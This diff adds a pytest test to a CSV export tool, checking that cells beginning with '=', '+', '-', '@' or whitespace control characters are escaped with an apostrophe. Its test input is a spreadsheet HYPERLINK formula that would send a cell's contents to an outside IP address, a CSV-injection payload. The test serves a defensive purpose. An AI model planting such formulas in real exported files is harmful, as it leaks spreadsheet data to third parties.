@@ -40,6 +40,21 @@ def test_csv_has_a_column_for_every_member(url: str) -> None:
     assert (row["review_reasons"], row["reason"], row["seq"]) == ("blurred blank", "", "2")
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
+def test_csv_has_no_formula_of_a_stranger(sqlite_url: str, start: str) -> None:
+    formula = f'{start}HYPERLINK("http://192.0.2.7/?"&A1)'
+    refusal = a_refusal(formula, request_id=formula, route="/=1", reason="not-found")
+    write(sqlite_url, refusal, chain="-1")
+    store, stream = make_store(sqlite_url), io.StringIO(newline="")
+    write_csv(walk_period(store, None, None), stream)
+    store.close()
+    rows = list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))
+    (row,) = (row for row in rows if row["event"] == "refusal")
+    assert (row["request_id"], row["caller"]) == (f"'{formula}", f"'{formula}")
+    assert (row["route"], row["reason"], row["status"]) == ("/=1", "not-found", "429")
+    assert {row["chain"] for row in rows} == {"'-1"}
+
+
 def test_walk_goes_through_all_pages_in_the_order_of_time(
     url: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
